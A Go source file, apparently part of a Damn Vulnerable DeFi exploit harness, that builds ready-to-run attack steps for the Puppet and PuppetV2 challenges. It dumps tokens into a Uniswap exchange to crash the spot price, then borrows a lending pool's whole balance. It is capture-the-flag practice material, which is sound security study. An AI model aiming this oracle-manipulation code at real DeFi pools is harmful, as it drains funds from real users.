package scenarios

import (
	"context"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/log"

	"github.com/mjkid221/damn-vulnerable-defi/common/errs"
	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
)

var (
	wad      = big.NewInt(1_000_000_000_000_000_000)
	fee      = big.NewInt(997)
	feeScale = big.NewInt(1000)
)

// GetAmountOut is the constant-product output for amountIn after the 0.3%
// fee, shared by Uniswap v1 exchanges and v2 pairs.
func GetAmountOut(amountIn, reserveIn, reserveOut *big.Int) *big.Int {
	inWithFee := new(big.Int).Mul(amountIn, fee)
	num := new(big.Int).Mul(inWithFee, reserveOut)
	den := new(big.Int).Add(new(big.Int).Mul(reserveIn, feeScale), inWithFee)
	if den.Sign() == 0 {
		return new(big.Int)
	}
	return num.Div(num, den)
}

// TokenToEthInputPrice is how much ETH a v1 exchange pays for tokensSold.
func TokenToEthInputPrice(tokensSold, tokenReserve, ethReserve *big.Int) *big.Int {
	return GetAmountOut(tokensSold, tokenReserve, ethReserve)
}

// Quote converts amountA at the pair's spot price, without fee.
func Quote(amountA, reserveA, reserveB *big.Int) *big.Int {
	if reserveA.Sign() == 0 {
		return new(big.Int)
	}
	out := new(big.Int).Mul(amountA, reserveB)
	return out.Div(out, reserveA)
}

// PuppetDepositRequired is the v1 lending pool's collateral for borrowing
// amount: twice its value at the exchange's spot price.
func PuppetDepositRequired(amount, ethReserve, tokenReserve *big.Int) *big.Int {
	if tokenReserve.Sign() == 0 {
		return new(big.Int)
	}
	price := new(big.Int).Mul(ethReserve, wad)
	price.Div(price, tokenReserve)
	out := new(big.Int).Mul(amount, price)
	out.Mul(out, big.NewInt(2))
	return out.Div(out, wad)
}

// PuppetV2DepositRequired is the v2 pool's WETH collateral: three times the
// pair's quote for amount.
func PuppetV2DepositRequired(amount, tokenReserve, wethReserve *big.Int) *big.Int {
	q := Quote(new(big.Int).Mul(amount, wad), tokenReserve, wethReserve)
	q.Mul(q, big.NewInt(3))
	return q.Div(q, wad)
}

// Puppet dumps the player's tokens into the v1 exchange and borrows the
// pool's whole balance at the crashed price.
//
// Addresses: token, exchange, pool.
func Puppet(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("token", "exchange", "pool")
	if err != nil {
		return nil, err
	}
	sold, err := p.tokenBalance(ctx, "player-tokens", addrs["token"], p.Player)
	if err != nil {
		return nil, err
	}
	borrow, err := p.tokenBalance(ctx, "pool-tokens", addrs["token"], addrs["pool"])
	if err != nil {
		return nil, err
	}
	tokenReserve, err := p.tokenBalance(ctx, "exchange-tokens", addrs["token"], addrs["exchange"])
	if err != nil {
		return nil, err
	}
	ethReserve, err := p.etherBalance(ctx, "exchange-eth", addrs["exchange"])
	if err != nil {
		return nil, err
	}

	received := TokenToEthInputPrice(sold, tokenReserve, ethReserve)
	deposit := PuppetDepositRequired(borrow,
		new(big.Int).Sub(ethReserve, received),
		new(big.Int).Add(tokenReserve, sold))
	log.Info("puppet swap planned", "sold", sold, "received", received, "deposit", deposit, "borrow", borrow)

	approve, err := payload.EncodeCall("approve(address,uint256)", addrs["exchange"], sold)
	if err != nil {
		return nil, err
	}
	swap, err := payload.EncodeCall("tokenToEthSwapInput(uint256,uint256,uint256)", sold, received, maxDeadline)
	if err != nil {
		return nil, err
	}
	borrowData, err := payload.EncodeCall("borrow(uint256,address)", borrow, p.Player)
	if err != nil {
		return nil, err
	}

	return &exploit.Config{
		Name:      "puppet",
		Addresses: addrs,
		Watch:     []common.Address{p.Player},
		Steps: []exploit.Step{
			&exploit.SubmitCall{Name: "approve", To: to("token"), Data: approve},
			&exploit.SubmitCall{Name: "dump", To: to("exchange"), Data: swap},
			&exploit.SubmitCall{Name: "borrow", To: to("pool"), Value: deposit, Data: borrowData},
		},
		Postconditions: []exploit.Postcondition{
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("pool"), new(big.Int)),
		},
	}, nil
}

// PuppetV2 is Puppet against a v2 router and a pool that takes WETH.
//
// Addresses: token, weth, router, pair, pool.
func PuppetV2(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("token", "weth", "router", "pair", "pool")
	if err != nil {
		return nil, err
	}
	plan, err := planV2(ctx, p, addrs)
	if err != nil {
		return nil, err
	}
	calls := []struct {
		name, to string
		value    *big.Int
		sig      string
		args     []interface{}
	}{
		{"approve-router", "token", nil, "approve(address,uint256)", []interface{}{addrs["router"], plan.sold}},
		{"dump", "router", nil, "swapExactTokensForETH(uint256,uint256,address[],address,uint256)",
			[]interface{}{plan.sold, plan.received, []common.Address{addrs["token"], addrs["weth"]}, p.Player, maxDeadline}},
		{"wrap", "weth", plan.deposit, "deposit()", nil},
		{"approve-pool", "weth", nil, "approve(address,uint256)", []interface{}{addrs["pool"], plan.deposit}},
		{"borrow", "pool", nil, "borrow(uint256)", []interface{}{plan.borrow}},
	}
	steps := make([]exploit.Step, 0, len(calls))
	for _, c := range calls {
		data, err := payload.EncodeCall(c.sig, c.args...)
		if err != nil {
			return nil, err
		}
		steps = append(steps, &exploit.SubmitCall{Name: c.name, To: to(c.to), Value: c.value, Data: data})
	}

	return &exploit.Config{
		Name:      "puppet-v2",
		Addresses: addrs,
		Watch:     []common.Address{p.Player},
		Steps:     steps,
		Postconditions: []exploit.Postcondition{
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("pool"), new(big.Int)),
		},
	}, nil
}

type v2Plan struct {
	sold, received, deposit, borrow *big.Int
}

func planV2(ctx context.Context, p Params, addrs map[string]common.Address) (*v2Plan, error) {
	sold, err := p.tokenBalance(ctx, "player-tokens", addrs["token"], p.Player)
	if err != nil {
		return nil, err
	}
	borrow, err := p.tokenBalance(ctx, "pool-tokens", addrs["token"], addrs["pool"])
	if err != nil {
		return nil, err
	}
	tokenReserve, err := p.tokenBalance(ctx, "pair-tokens", addrs["token"], addrs["pair"])
	if err != nil {
		return nil, err
	}
	wethReserve, err := p.tokenBalance(ctx, "pair-weth", addrs["weth"], addrs["pair"])
	if err != nil {
		return nil, err
	}
	if tokenReserve.Sign() == 0 || wethReserve.Sign() == 0 {
		return nil, errs.NewError(errs.ErrorTypeValidation, "pair has no liquidity").AddContext("pair", addrs["pair"].Hex())
	}
	received := GetAmountOut(sold, tokenReserve, wethReserve)
	deposit := PuppetV2DepositRequired(borrow,
		new(big.Int).Add(tokenReserve, sold),
		new(big.Int).Sub(wethReserve, received))
	log.Info("puppet v2 swap planned", "sold", sold, "received", received, "deposit", deposit, "borrow", borrow)
	return &v2Plan{sold: sold, received: received, deposit: deposit, borrow: borrow}, nil
}
